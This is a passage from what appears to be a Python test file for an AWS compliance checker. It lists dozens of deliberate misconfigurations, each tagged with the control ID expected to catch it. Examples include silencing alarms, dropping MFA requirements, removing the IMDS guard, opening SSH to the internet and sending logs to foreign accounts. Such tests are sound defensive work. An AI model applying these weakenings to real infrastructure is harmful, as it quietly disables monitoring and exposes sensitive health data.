        policy(KEY, "keys-logs", statement("DenyKeyDestructionButBreakGlass", exempt(f"arn:aws:iam::{ACCT}:role/*"))),
        "GLZ-KMS-005",
    ),
    W(
        "log key: destruction deny covers ScheduleKeyDeletion only (DisableKey open)",
        policy(
            KEY,
            "keys-logs",
            statement("DenyKeyDestructionButBreakGlass", lambda st: st.update(Action="kms:ScheduleKeyDeletion")),
        ),
        "GLZ-KMS-005",
    ),
    W(
        "data key: policy-change deny removed (anyone with IAM rights rewrites it)",
        policy(KEY, "keys-data", drop_statement("DenyKeyPolicyChangesButDeployer")),
        "GLZ-KMS-005",
    ),
    W(
        "log key: destruction deny written with NotPrincipal naming the admin role too",
        policy(
            KEY,
            "keys-logs",
            statement(
                "DenyKeyDestructionButBreakGlass",
                lambda st: (st.pop("Principal"), st.update(NotPrincipal={"AWS": [ADMIN]})),
            ),
        ),
        "GLZ-KMS-005",
    ),
    # GLZ-LOG-010: guardrail alarms
    W("break-glass filter removed", remove(METRIC_FILTER, "audit-break-glass-assumed"), "GLZ-LOG-010"),
    W(
        "break-glass filter watches the admin role instead",
        edit_prop(
            METRIC_FILTER,
            "audit-break-glass-assumed",
            "pattern",
            lambda p: p.replace("glz-demo-break-glass", "glz-demo-admin"),
        ),
        "GLZ-LOG-010",
    ),
    W(
        "monitoring-plane filter no longer watches GuardDuty",
        edit_prop(
            METRIC_FILTER,
            "audit-detective-services-changes",
            "pattern",
            lambda p: p.replace("guardduty.amazonaws.com", "guardduty-legacy.amazonaws.com"),
        ),
        "GLZ-LOG-010",
    ),
    W(
        "deployer-used alarm actions disabled",
        set_prop(METRIC_ALARM, "audit-deployer-used", "actionsEnabled", False),
        "GLZ-LOG-010",
    ),
    # GLZ-LOG-011: the trail's silence alarmed
    W("trail-silent alarm removed", remove(METRIC_ALARM, "audit-trail-silent"), "GLZ-LOG-011"),
    W(
        "trail-silent alarm treats missing data as not breaching",
        set_prop(METRIC_ALARM, "audit-trail-silent", "treatMissingData", "notBreaching"),
        "GLZ-LOG-011",
    ),
    W(
        "trail-silent alarm watches another log group",
        set_prop(METRIC_ALARM, "audit-trail-silent", "dimensions", {"LogGroupName": "/glz/demo/elsewhere"}),
        "GLZ-LOG-011",
    ),
    # GLZ-LOG-012: only the delivering services write audit records
    W(
        "audit bucket: the forged-record deny removed",
        policy(BUCKET_POLICY, "audit-bucket-policy", drop_statement("DenyRecordsNotFromDeliveringServices")),
        "GLZ-LOG-012",
    ),
    W(
        "audit bucket: the forged-record deny exempts the admin role",
        policy(
            BUCKET_POLICY,
            "audit-bucket-policy",
            statement(
                "DenyRecordsNotFromDeliveringServices",
                lambda st: st["Condition"].update(ArnNotLike={"aws:PrincipalArn": [ADMIN]}),
            ),
        ),
        "GLZ-LOG-012",
    ),
    W(
        "audit bucket: the forged-record deny covers only the Config prefix",
        policy(
            BUCKET_POLICY,
            "audit-bucket-policy",
            statement(
                "DenyRecordsNotFromDeliveringServices",
                lambda st: st.update(Resource=st["Resource"].replace("/*", "/config/*")),
            ),
        ),
        "GLZ-LOG-012",
    ),
    # GLZ-IAM-003: a workload collaborator is held by its source network instead of MFA
    W(
        "workload collaborator: source range widened to the whole internet",
        workload_trust(lambda c: c.update(IpAddress={"aws:SourceIp": "0.0.0.0/0"})),
        "GLZ-IAM-003",
    ),
    W(
        "workload collaborator: source condition dropped",
        workload_trust(lambda c: c.pop("IpAddress")),
        "GLZ-IAM-003",
    ),
    W(
        "workload collaborator: source condition made IfExists (absent key passes)",
        workload_trust(lambda c: c.update(IpAddressIfExists=c.pop("IpAddress"))),
        "GLZ-IAM-003",
    ),
    # GLZ-IAM-014: a run-scoped collaborator lists only its runs' folders
    W(
        "broad-variant-lab lists its whole prefix again (other runs' keys visible)",
        policy(
            ROLE_POLICY,
            f"{BROAD}-data-access",
            statement("ListAllowedPrefixes", set_keys(Condition={"StringLike": {"s3:prefix": ["cohort-2026/*"]}})),
        ),
        "GLZ-IAM-014",
    ),
    W(
        "broad-variant-lab listing condition widened with a run wildcard",
        policy(
            ROLE_POLICY,
            f"{BROAD}-data-access",
            statement("ListAllowedPrefixes", set_keys(Condition={"StringLike": {"s3:prefix": ["cohort-2026/RUN-*"]}})),
        ),
        "GLZ-IAM-014",
    ),
    W(
        "broad-variant-lab listing condition made IfExists",
        policy(
            ROLE_POLICY,
            f"{BROAD}-data-access",
            statement(
                "ListAllowedPrefixes",
                lambda st: st.update(Condition={"StringLikeIfExists": st["Condition"]["StringLike"]}),
            ),
        ),
        "GLZ-IAM-014",
    ),
    # GLZ-CMP-009/010: jobs share the host's network; only root reaches IMDS and jobs never run as root
    W("alignment job: user unset (the image's user, maybe root)", container("alignment", pop("user")), "GLZ-CMP-009"),
    W(
        "variant calling job: user root written as root:root",
        container("variant-calling", lambda c: c.update(user="root:root")),
        "GLZ-CMP-009",
    ),
    W(
        "launch template: the IMDS guard removed from the boot script",
        boot_script(lambda t: "".join(line for line in t.splitlines(True) if "169.254.169.254" not in line)),
        "GLZ-CMP-010",
    ),
    W(
        "FPGA launch template: the IMDS guard commented out",
        boot_script(
            lambda t: t.replace("iptables -w -I OUTPUT", "# iptables -w -I OUTPUT"), "compute-fpga-launch-template"
        ),
        "GLZ-CMP-010",
    ),
    W(
        "launch template: the IMDS guard lets uid 1000 (the jobs) through instead of root",
        boot_script(lambda t: t.replace("--uid-owner 0", "--uid-owner 1000")),
        "GLZ-CMP-010",
    ),
    # GLZ-CMP-017: sessions on hosts holding PHI are logged
    W(
        "Session Manager preferences removed (hosts still take sessions)",
        remove("aws:ssm/document:Document", "compute-session-manager-preferences"),
        "GLZ-CMP-017",
    ),
    W(
        "session logging encryption switched off",
        edit_prop(
            "aws:ssm/document:Document",
            "compute-session-manager-preferences",
            "content",
            in_json(lambda c: c["inputs"].update(cloudWatchEncryptionEnabled=False)),
        ),
        "GLZ-CMP-017",
    ),
    W(
        "sessions sent to a log group outside the stack, written as YAML",
        combine(
            set_prop("aws:ssm/document:Document", "compute-session-manager-preferences", "documentFormat", "YAML"),
            edit_prop(
                "aws:ssm/document:Document",
                "compute-session-manager-preferences",
                "content",
                lambda text: yaml.safe_dump(
                    {**json.loads(text), "inputs": {**json.loads(text)["inputs"], "cloudWatchLogGroupName": "/tmp/x"}}
                ),
            ),
        ),
        "GLZ-CMP-017",
    ),
    W(
        "session data no longer KMS-encrypted",
        edit_prop(
            "aws:ssm/document:Document",
            "compute-session-manager-preferences",
            "content",
            in_json(lambda c: c["inputs"].update(kmsKeyId="")),
        ),
        "GLZ-CMP-017",
    ),
    # GLZ-CMP-018: sessions show the system use notice and end when idle
    W(
        "idle session timeout raised to the hour Session Manager allows",
        session_inputs(lambda i: i.update(idleSessionTimeout="60")),
        "GLZ-CMP-018",
    ),
    W(
        "idle session timeout dropped (Session Manager's default of 20 minutes applies, more than the 15 declared)",
        session_inputs(lambda i: i.pop("idleSessionTimeout")),
        "GLZ-CMP-018",
    ),
    W(
        "shell profile emptied: sessions start without the notice",
        session_inputs(lambda i: i["shellProfile"].update(linux="")),
        "GLZ-CMP-018",
    ),
    W(
        "notice printed, then the screen cleared",
        session_inputs(lambda i: i["shellProfile"].update(linux=i["shellProfile"]["linux"] + "\nclear")),
        "GLZ-CMP-018",
    ),
    W(
        "notice replaced by a welcome line",
        session_inputs(lambda i: i["shellProfile"].update(linux="echo 'Welcome to the genomics batch host, enjoy'")),
        "GLZ-CMP-018",
    ),
    W(
        "the notice moved to the Windows profile the Linux hosts never run",
        session_inputs(lambda i: i["shellProfile"].update(windows=i["shellProfile"]["linux"], linux="cd /tmp")),
        "GLZ-CMP-018",
    ),
    # GLZ-NET-012: hosts keep time by the Amazon Time Sync Service
    W(
        "DHCP option association removed (the VPC falls back to whatever set the region gives it)",
        remove(DHCP_ASSOCIATION),
        "GLZ-NET-012",
    ),
    W(
        "NTP servers pointed at a public pool",
        set_prop(DHCP_OPTIONS, "network-dhcp", "ntpServers", ["0.pool.ntp.org", "1.pool.ntp.org"]),
        "GLZ-NET-012",
    ),
    W(
        "a second NTP server beside the Amazon Time Sync Service",
        set_prop(DHCP_OPTIONS, "network-dhcp", "ntpServers", ["169.254.169.123", "10.40.0.250"]),
        "GLZ-NET-012",
    ),
    W(
        "the VPC associated with an option set made outside the stack",
        set_prop(DHCP_ASSOCIATION, "network-dhcp-association", "dhcpOptionsId", "dopt-0a1b2c3d4e5f60718"),
        "GLZ-NET-012",
    ),
    W(
        "an option set added from outside, with no NTP server, associated with the VPC",
        combine(
            remove(DHCP_ASSOCIATION),
            add(DHCP_OPTIONS, "dopt-0f1e2d3c4b5a69788", {"domainNameServers": ["AmazonProvidedDNS"]}),
            add(DHCP_ASSOCIATION, "vpc-dhcp-outside", {"vpcId": VPC_ID, "dhcpOptionsId": "dopt-0f1e2d3c4b5a69788"}),
        ),
        "GLZ-NET-012",
    ),
    W(
        "names resolved by a custom DNS server instead of the Amazon DNS server",
        set_prop(DHCP_OPTIONS, "network-dhcp", "domainNameServers", ["10.40.0.53"]),
        "GLZ-NET-012",
    ),
    # GLZ-LOG-013: high and critical findings and AWS Health events reach people
    W(
        "Security Hub findings rule disabled",
        set_prop(EVENT_RULE, "findings-security-hub-findings", "state", "DISABLED"),
        "GLZ-LOG-013",
    ),
    W(
        "only CRITICAL Security Hub findings forwarded (HIGH ones go nowhere)",
        edit_prop(
            EVENT_RULE,
            "findings-security-hub-findings",
            "eventPattern",
            in_json(lambda p: p["detail"]["findings"]["Severity"].update(Label=["CRITICAL"])),
        ),
        "GLZ-LOG-013",
    ),
    W(
        "findings forwarded only when their severity is anything but HIGH",
        edit_prop(
            EVENT_RULE,
            "findings-security-hub-findings",
            "eventPattern",
            in_json(lambda p: p["detail"]["findings"]["Severity"].update(Label=[{"anything-but": ["HIGH"]}])),
        ),
        "GLZ-LOG-013",
    ),
    W("AWS Health rule removed", remove(EVENT_RULE, "findings-health-events"), "GLZ-LOG-013"),
    W(
        "Security Hub rule moved to a custom event bus that AWS services do not send to",
        set_prop(EVENT_RULE, "findings-security-hub-findings", "eventBusName", "glz-quiet-bus"),
        "GLZ-LOG-013",
    ),
    W(
        "target written with the ':*' log group ARN (EventBridge delivers nothing)",
        edit_prop(EVENT_TARGET, "findings-security-hub-findings", "arn", lambda arn: arn + ":*"),
        "GLZ-LOG-013",
    ),
    W(
        "log delivery policy removed (EventBridge cannot write the findings)",
        remove(LOG_POLICY, "findings-delivery"),
        "GLZ-LOG-013",
    ),
    W(
        "log delivery allowed only for a rule of another account",
        edit_prop(
            LOG_POLICY,
            "findings-delivery",
            "policyDocument",
            in_json(
                lambda d: d["Statement"][1]["Condition"]["ArnEquals"].update(
                    {"aws:SourceArn": [f"arn:aws:events:{REGION}:{FOREIGN}:rule/other"]}
                )
            ),
        ),
        "GLZ-LOG-013",
    ),
    W(
        "Health metric filter now counts Inspector events",
        set_prop(METRIC_FILTER, "findings-health-events", "pattern", '{ $.source = "aws.inspector2" }'),
        "GLZ-LOG-013",
    ),
    W(
        "findings alarm goes off only at five findings",
        set_prop(METRIC_ALARM, "findings-security-hub-findings", "threshold", 5),
        "GLZ-LOG-013",
    ),
    W(
        "findings alarm notifies nobody",
        set_prop(METRIC_ALARM, "findings-security-hub-findings", "alarmActions", []),
        "GLZ-LOG-013",
    ),
    W(
        "Security Hub pattern switched to the OCSF events of the new Security Hub (CSPM findings unmatched)",
        edit_prop(
            EVENT_RULE,
            "findings-security-hub-findings",
            "eventPattern",
            in_json(lambda p: p.update({"detail-type": ["Findings Imported V2"]})),
        ),
        "GLZ-LOG-013",
    ),
    W(
        "failed-job rule disabled",
        set_prop(EVENT_RULE, "job-failures-batch-job-failures", "state", "DISABLED"),
        "GLZ-LOG-013",
    ),
    W(
        "failed-job rule narrowed to one queue (failures on the high-priority queue go unnoticed)",
        edit_prop(
            EVENT_RULE,
            "job-failures-batch-job-failures",
            "eventPattern",
            in_json(
                lambda p: p["detail"].update(jobQueue=[f"arn:aws:batch:{REGION}:{ACCT}:job-queue/glz-demo-default"])
            ),
        ),
        "GLZ-LOG-013",
    ),
    W(
        "a job queue added from outside the stack's names, its failures watched by nothing",
        add(
            "aws:batch/jobQueue:JobQueue",
            "side-queue",
            {"name": "side-queue", "arn": f"arn:aws:batch:{REGION}:{ACCT}:job-queue/side-queue", "priority": 1},
        ),
        "GLZ-LOG-013",
    ),
    # GLZ-NET-005: the Registry of Open Data stays read-only, by exact name
    W(
        "open-data endpoint statement widened to writes (a job could copy data out to it)",
        open_data_statement(lambda st: st.update(Action=["s3:GetObject", "s3:PutObject"])),
        "GLZ-NET-005",
    ),
    W(
        "open-data endpoint statement names buckets by a pattern anyone can create",
        open_data_statement(lambda st: st.update(Resource=["arn:aws:s3:::1000genomes*/*"])),
        "GLZ-NET-005",
    ),
    W(
        "open-data endpoint statement grants every S3 action",
        open_data_statement(lambda st: st.update(Action="s3:*")),
        "GLZ-NET-005",
    ),
    # GLZ-PIPE-001: the run workflow logs its failures, without the data it carries
    W(
        "run workflow logging switched off",
        edit_prop(STATE_MACHINE, "runs-workflow", "loggingConfiguration", lambda c: {**c, "level": "OFF"}),
        "GLZ-PIPE-001",
    ),
    W(
        "run workflow logs its execution data (inputs and outputs name samples)",
        edit_prop(
            STATE_MACHINE, "runs-workflow", "loggingConfiguration", lambda c: {**c, "includeExecutionData": True}
        ),
        "GLZ-PIPE-001",
    ),
    W(
        "run workflow logs to a log group outside the stack",
        edit_prop(
            STATE_MACHINE,
            "runs-workflow",
            "loggingConfiguration",
            lambda c: {**c, "logDestination": f"arn:aws:logs:{REGION}:{ACCT}:log-group:/elsewhere:*"},
        ),
        "GLZ-PIPE-001",
    ),
    W(
        "run workflow's log group loses its customer-managed key",
        set_prop("aws:cloudwatch/logGroup:LogGroup", "runs-log", "kmsKeyId", None),
        "GLZ-PIPE-001",
    ),
    W(
        "a state machine added from outside without logging",
        add(STATE_MACHINE, "glz-side-workflow", {"name": "side", "definition": "{}", "roleArn": ROLE_ARN_ADMIN}),
        "GLZ-PIPE-001",
    ),
    # GLZ-PIPE-002: events stay in the account
    W(
        "run-complete events also sent to another account's event bus",
        add(
            EVENT_TARGET,
            "runs-to-partner-bus",
            {"rule": "glz-demo-run-complete", "arn": f"arn:aws:events:{REGION}:{FOREIGN}:event-bus/default"},
        ),
        "GLZ-PIPE-002",
    ),
    W(
        "findings sent to an API destination (an HTTP endpoint)",
        set_prop(
            EVENT_TARGET,
            "findings-security-hub-findings",
            "arn",
            f"arn:aws:events:{REGION}:{ACCT}:api-destination/siem/0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9",
        ),
        "GLZ-PIPE-002",
    ),
    W(
        "run workflow started through a role outside the stack",
        set_prop(EVENT_TARGET, "runs-run-complete", "roleArn", f"arn:aws:iam::{ACCT}:role/some-broad-role"),
        "GLZ-PIPE-002",
    ),
    # GLZ-DATA-002: the runs table survives a delete
    W(
        "runs table deletion protection off",
        set_prop("aws:dynamodb/table:Table", "runs-table", "deletionProtectionEnabled", False),
        "GLZ-DATA-002",
    ),
    # GLZ-IAM-010: the break-glass exemption holds only for an MFA operator role
    W(
        "break-glass trust no longer requires MFA",
        edit_prop(
            ROLE,
            "operators-break-glass",
            "assumeRolePolicy",
            in_json(lambda d: [s.pop("Condition", None) for s in d["Statement"]]),
        ),
        "GLZ-IAM-010",
    ),
    # GLZ-ACC-013: roles, users and keys left unused are reported within the defined period
    W("unused-access analyzer removed", remove(ANALYZER, "unused-access"), "GLZ-ACC-013"),
    W(
        "unused access reported only after a year",
        edit_prop(ANALYZER, "security-unused-access-analyzer", "configuration", unused_access(unusedAccessAge=365)),
        "GLZ-ACC-013",
    ),
    W(
        "the age dropped (AWS's default then applies, not the declared period)",
        edit_prop(ANALYZER, "security-unused-access-analyzer", "configuration", unused_access(unusedAccessAge=None)),
        "GLZ-ACC-013",
    ),
    W(
        "roles tagged team=pipeline excluded from the findings",
        edit_prop(
            ANALYZER,
            "security-unused-access-analyzer",
            "configuration",
            unused_access(analysisRule={"exclusions": [{"resourceTags": [{"team": "pipeline"}]}]}),
        ),
        "GLZ-ACC-013",
    ),
    W(
        "this account excluded from the findings",
        edit_prop(
            ANALYZER,
            "security-unused-access-analyzer",
            "configuration",
            unused_access(analysisRule=[{"exclusions": [{"accountIds": [ACCT]}]}]),
        ),
        "GLZ-ACC-013",
    ),
    W(
        "the analyzer turned into an external-access one (nothing reports unused access)",
        set_prop(ANALYZER, "security-unused-access-analyzer", "type", "ACCOUNT"),
        "GLZ-ACC-013",
    ),
    # GLZ-CFG-001: a phi stack keeps its secure defaults (NAT egress, unscanned reads)
    W(
        "a NAT gateway added from outside (egress: nat-gateway)",
        add(NAT_GATEWAY, "added-nat", {"subnetId": "subnet-74e2f5d528c6ec7c1", "connectivityType": "public"}),
        "GLZ-CFG-001",
    ),
    W("an internet gateway added from outside", add(INTERNET_GATEWAY, "added-igw", {"vpcId": VPC_ID}), "GLZ-CFG-001"),
    W(
        "bcl: the scan-before-read deny dropped (scannedReadsOnly: false)",
        policy(
            BUCKET_POLICY,
            "data-bcl-policy",
            lambda doc: doc.update(
                Statement=[st for st in doc["Statement"] if st.get("Sid") != "DenyReadingObjectsNotScannedClean"]
            ),
        ),
        "GLZ-CFG-001",
    ),
    W(
        "fastq: the alignment stage exempted from the scan-before-read deny",
        policy(
            BUCKET_POLICY,
            "data-fastq-policy",
            statement(
                "DenyReadingObjectsNotScannedClean",
                lambda st: st["Condition"]["ArnNotLike"]["aws:PrincipalArn"].append(
                    f"arn:aws:iam::{ACCT}:role/glz-demo-batch-job-alignment"
                ),
            ),
        ),
        "GLZ-CFG-001",
    ),
    # GLZ-CFG-002: below phi the same weakenings are reported (advisory)
    W(
        "controlled stack: a NAT gateway added from outside",
        combine(
            as_classification("controlled"),
            add(NAT_GATEWAY, "added-nat", {"subnetId": "subnet-74e2f5d528c6ec7c1", "connectivityType": "public"}),
        ),
        "GLZ-CFG-002",
    ),
    W(
        "controlled stack: bcl readable before it is scanned",
        combine(
            as_classification("controlled"),
            policy(
                BUCKET_POLICY,
                "data-bcl-policy",
                lambda doc: doc.update(
                    Statement=[st for st in doc["Statement"] if st.get("Sid") != "DenyReadingObjectsNotScannedClean"]
                ),
            ),
        ),
        "GLZ-CFG-002",
    ),
    W("the stack relabelled public data", as_classification("public"), "GLZ-CFG-002"),
    # GLZ-NET-015: the subnet boundary denies by default; nothing admits SSH or RDP from the internet
    W("the default network ACL unmanaged (AWS's allow-all stays)", remove(DEFAULT_ACL, "default-acl"), "GLZ-NET-015"),
    W(
        "the default network ACL given an allow-all ingress rule",
        set_prop(
            DEFAULT_ACL,
            "network-default-acl",
            "ingress",
            [
                {
                    "ruleNo": 100,
                    "action": "allow",
                    "protocol": "-1",
                    "cidrBlock": "0.0.0.0/0",
                    "fromPort": 0,
                    "toPort": 0,
                }
            ],
        ),
        "GLZ-NET-015",
    ),
    W(
        "an allow rule added to the default ACL from outside (NetworkAclRule)",
        add(
            ACL_RULE,
            "default-acl-https",
            {
                "networkAclId": DEFAULT_ACL_ID,
                "ruleNumber": 100,
                "egress": False,
                "protocol": "tcp",
                "ruleAction": "allow",
                "cidrBlock": "10.0.0.0/8",
                "fromPort": 443,
                "toPort": 443,
            },
        ),
        "GLZ-NET-015",
    ),
    W(
        "the RDP deny dropped from the subnet ACL (the ephemeral allow then admits 3389)",
        edit_prop(SUBNET_ACL, "network-subnets-acl", "ingress", lambda rules: [r for r in rules if r["ruleNo"] != 110]),
        "GLZ-NET-015",
    ),
    W(
        "the RDP deny renumbered after the ephemeral allow",
        edit_prop(
            SUBNET_ACL,
            "network-subnets-acl",
            "ingress",
            lambda rules: [{**r, "ruleNo": 125} if r["ruleNo"] == 110 else r for r in rules],
        ),
        "GLZ-NET-015",
    ),
    W(
        "SSH from anywhere added to the subnet ACL from outside (NetworkAclRule, rule 50)",
        add(
            ACL_RULE,
            "subnets-acl-ssh",
            {
                "networkAclId": SUBNET_ACL_ID,
                "ruleNumber": 50,
                "egress": False,
                "protocol": "6",
                "ruleAction": "allow",
                "cidrBlock": "0.0.0.0/0",
                "fromPort": 22,
                "toPort": 22,
            },
        ),
        "GLZ-NET-015",
    ),
    # GLZ-ACC-015: snapshots and images cannot be made public
    W("EBS snapshot block public access removed", remove(SNAPSHOT_BPA, "snapshot-block"), "GLZ-ACC-015"),
    W(
        "snapshot block public access only for new shares (earlier public snapshots public again)",
        set_prop(SNAPSHOT_BPA, "security-snapshot-block-public-access", "state", "block-new-sharing"),
        "GLZ-ACC-015",
    ),
    W(
        "snapshot block public access set to unblocked",
        set_prop(SNAPSHOT_BPA, "security-snapshot-block-public-access", "state", "unblocked"),
        "GLZ-ACC-015",
    ),
    W("AMI block public access removed", remove(IMAGE_BPA, "image-block"), "GLZ-ACC-015"),
    W(
        "AMI block public access set to unblocked",
        set_prop(IMAGE_BPA, "security-image-block-public-access", "state", "unblocked"),
        "GLZ-ACC-015",
    ),
    # GLZ-ACC-014: AWS's security notices reach the security official
    W("the SECURITY alternate contact removed", remove(CONTACT, "security-contact"), "GLZ-ACC-014"),
    W(
        "the contact made the OPERATIONS contact instead",
        set_prop(CONTACT, "security-security-contact", "alternateContactType", "OPERATIONS"),
        "GLZ-ACC-014",
    ),
    W(
        "the SECURITY contact set for another account",
        set_prop(CONTACT, "security-security-contact", "accountId", FOREIGN),
        "GLZ-ACC-014",
    ),
    W(
        "a second SECURITY contact added from outside (whichever is put last wins)",
        add(
            CONTACT,
            "another-security-contact",
            {
                "alternateContactType": "SECURITY",
                "name": "Someone Else",
                "title": "Contractor",
                "emailAddress": "contractor@example.net",
                "phoneNumber": "+1 555 0199",
            },
        ),
        "GLZ-ACC-014",
    ),
    # GLZ-IAM-019: people who are not administrators can work AWS Support cases
    W(
        "the AWS Support role removed",
        combine(remove(ATTACH, "operators-support-access"), remove(ROLE, "operators-support")),
        "GLZ-IAM-019",
    ),
    W("AWSSupportAccess detached from the support role", remove(ATTACH, "operators-support-access"), "GLZ-IAM-019"),
    W(
        "the support role given ReadOnlyAccess instead (reads cases, cannot open one)",
        set_prop(ATTACH, "operators-support-access", "policyArn", "arn:aws:iam::aws:policy/ReadOnlyAccess"),
        "GLZ-IAM-019",
    ),
    W(
        "an inline Deny support:* added to the support role from outside",
        inline("support", SUPPORT_ROLE, {"Sid": "Added", "Effect": "Deny", "Action": "support:*", "Resource": "*"}),
        "GLZ-IAM-019",
    ),
    W(
        "a Deny of everything but IAM (NotAction) added to the support role",
        inline("support", SUPPORT_ROLE, {"Sid": "Added", "Effect": "Deny", "NotAction": "iam:*", "Resource": "*"}),
        "GLZ-IAM-019",
    ),
    W(
        "the support role assumable without MFA (no longer an operator role)",
        policy(ROLE, "operators-support", first_statement(lambda s: s["Condition"].pop("Bool")), "assumeRolePolicy"),
        "GLZ-IAM-019",
    ),
    # GLZ-IAM-018: instrument certificates are revocable, short-lived and buy only uploads into scanned tiers
    W("the CRL removed (revoked certificates keep working)", remove(CLOUD_CONTROL, "intake-crl"), "GLZ-IAM-018"),
    W(
        "the CRL imported but disabled",
        edit_prop(CLOUD_CONTROL, "intake-crl", "desiredState", in_json(lambda d: d.update(Enabled=False))),
        "GLZ-IAM-018",
    ),
    W(
        "the CRL imported for another trust anchor",
        edit_prop(
            CLOUD_CONTROL,
            "intake-crl",
            "desiredState",
            in_json(lambda d: d.update(TrustAnchorArn=f"arn:aws:rolesanywhere:{REGION}:{ACCT}:trust-anchor/other")),
        ),
        "GLZ-IAM-018",
    ),
    W(
        "profile sessions of twelve hours",
        set_prop(RA_PROFILE, "intake-profile", "durationSeconds", 43200),
        "GLZ-IAM-018",
    ),
    W(
        "instrument trust without aws:SourceArn (any anchor's certificate with that CN)",
        instrument_trust(lambda c: c.pop("ArnEquals")),
        "GLZ-IAM-018",
    ),
    W(
        "instrument trust pinned to every trust anchor by a wildcard ARN",
        instrument_trust(
            lambda c: (
                c.pop("ArnEquals"),
                c.update(ArnLike={"aws:SourceArn": "arn:aws:rolesanywhere:*:*:trust-anchor/*"}),
            )
        ),
        "GLZ-IAM-018",
    ),
    W(
        "instrument trust accepting any CN of the anchor (StringLike *)",
        instrument_trust(
            lambda c: (c.pop("StringEquals"), c.update(StringLike={"aws:PrincipalTag/x509Subject/CN": "*"}))
        ),
        "GLZ-IAM-018",
    ),
    W(
        "a second trust statement for the service with no condition at all",
        edit_prop(
            ROLE,
            "intake-novaseq-x-01",
            "assumeRolePolicy",
            in_json(
                lambda d: d["Statement"].append(
                    {
                        "Effect": "Allow",
                        "Principal": {"Service": ["rolesanywhere.amazonaws.com"]},
                        "Action": "sts:AssumeRole",
                    }
                )
            ),
        ),
        "GLZ-IAM-018",
    ),
    W(
        "the instrument may delete the runs it uploaded (AWS managed AmazonS3FullAccess attached from outside)",
        attach("instrument", INSTRUMENT_ROLE, "arn:aws:iam::aws:policy/AmazonS3FullAccess"),
        "GLZ-IAM-018",
    ),
    W(
        "the instrument may write into the unscanned alignments tier",
        inline(
            "instrument",
            INSTRUMENT_ROLE,
            allow("s3:PutObject", f"arn:aws:s3:::glz-demo-alignments-{ACCT}-{REGION}/*"),
        ),
        "GLZ-IAM-018",
    ),
    # GLZ-NET-013: the lab's VPN negotiates only strong cryptography and logs every tunnel
    W(
        "tunnel 2 also accepts IKEv1",
        set_prop(VPN, "lab-vpn", "tunnel2IkeVersions", ["ikev1", "ikev2"]),
        "GLZ-NET-013",
    ),
    W(
        "tunnel 1 integrity falls back to SHA-1",
        set_prop(VPN, "lab-vpn", "tunnel1Phase1IntegrityAlgorithms", ["SHA2-256", "SHA1"]),
        "GLZ-NET-013",
    ),
    W(
        "tunnel 1 phase 2 accepts Diffie-Hellman group 2",
        set_prop(VPN, "lab-vpn", "tunnel1Phase2DhGroupNumbers", [2, 14]),
        "GLZ-NET-013",
    ),
    W(
        "tunnel 1 phase 1 encryption left to AWS's defaults",
        set_prop(VPN, "lab-vpn", "tunnel1Phase1EncryptionAlgorithms", None),
        "GLZ-NET-013",
    ),
    W(
        "tunnel 2 logs switched off",
        edit_prop(VPN, "lab-vpn", "tunnel2LogOptions", lambda o: o["cloudwatchLogOptions"].update(logEnabled=False)),
        "GLZ-NET-013",
    ),
    W(
        "tunnel 1 logs sent to another account's log group",
        edit_prop(
            VPN,
            "lab-vpn",
            "tunnel1LogOptions",
            lambda o: o["cloudwatchLogOptions"].update(
                logGroupArn=f"arn:aws:logs:{REGION}:{FOREIGN}:log-group:/vpn/collector:*"
            ),
        ),
        "GLZ-NET-013",
    ),
    # GLZ-NET-009 / GLZ-NET-011: the lab's path carries exactly the declared lab networks
    W(
        "a default route to the lab's VPN gateway (everything leaves through the lab)",
        set_prop(ROUTE_TYPE, "lab-route-0-0", "destinationCidrBlock", "0.0.0.0/0"),
        "GLZ-NET-009",
    ),
    W(
        "a route to all of 10.0.0.0/8 through the VPN gateway, wider than the lab",
        set_prop(ROUTE_TYPE, "lab-route-1-0", "destinationCidrBlock", "10.0.0.0/8"),
        "GLZ-NET-009",
    ),
    W(
        "route propagation from the VPN gateway added from outside (the lab's BGP decides the routes)",
        add(
            "aws:ec2/vpnGatewayRoutePropagation:VpnGatewayRoutePropagation",
            "vgw-propagation-outside",
            {"vpnGatewayId": "lab-vpn-gateway-14f1f0e", "routeTableId": "rtb-eaba0e6d2a42142a7"},
        ),
        "GLZ-NET-009",
    ),
    W(
        "the resolver endpoint's group opened to all of 10.0.0.0/8",
        edit_prop(
            SECURITY_GROUP,
            "lab-resolver",
            "ingress",
            lambda rules: [r.update(cidrBlocks=["10.0.0.0/8"]) for r in rules] and None,
        ),
        "GLZ-NET-011",
    ),
    # GLZ-NET-014: interface endpoints admit only this account's principals
    W(
        "the KMS endpoint's policy dropped (AWS's default admits anyone)",
        set_prop(ENDPOINT, "network-kms", "policy", None),
        "GLZ-NET-014",
    ),
    W(
        "the STS endpoint admits every account (condition on StringLike *)",
        edit_prop(
            ENDPOINT,
            "network-sts",
            "policy",
            in_json(lambda d: d["Statement"][0].update(Condition={"StringLike": {"aws:PrincipalAccount": "*"}})),
        ),
        "GLZ-NET-014",
    ),
    W(
        "the logs endpoint also admits a partner account by name",
        edit_prop(
            ENDPOINT,
            "network-logs",
            "policy",
            in_json(
                lambda d: d["Statement"].append(
                    {
                        "Sid": "Partner",
                        "Effect": "Allow",
                        "Principal": {"AWS": f"arn:aws:iam::{FOREIGN}:root"},
                        "Action": "logs:*",
                        "Resource": "*",
                    }
                )
            ),
        ),
        "GLZ-NET-014",
    ),
    W(
        "the ECR endpoint's policy replaced from outside by a full-access VpcEndpointPolicy",
        add(
            "aws:ec2/vpcEndpointPolicy:VpcEndpointPolicy",
            "ecr-endpoint-open",
            {
                "vpcEndpointId": ECR_API_ENDPOINT_ID,
                "policy": json.dumps(
                    {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}
                ),
            },
        ),
        "GLZ-NET-014",
    ),
    # GLZ-PIPE-003: the workflow runs only the stack's job definitions, on queues that can run them
    W(
        "a stage submits a job definition of another stack (privileged, any role)",
        workflow_task(
            "Run-alignment",
            lambda p: p.update(JobDefinition=f"arn:aws:batch:{REGION}:{ACCT}:job-definition/adhoc-debug:3"),
        ),
        "GLZ-PIPE-003",
    ),
    W(
        "the job definition read from the run's input at run time",
        workflow_task(
            "Run-variant-calling", lambda p: (p.pop("JobDefinition"), p.update({"JobDefinition.$": "$.jobdef"}))
        ),
        "GLZ-PIPE-003",
    ),
    W(
        "a stage sent to a queue outside the stack",
        workflow_task(
            "Run-demultiplex", lambda p: p.update(JobQueue=f"arn:aws:batch:{REGION}:{ACCT}:job-queue/shared-gpu")
        ),
        "GLZ-PIPE-003",
    ),
    W(
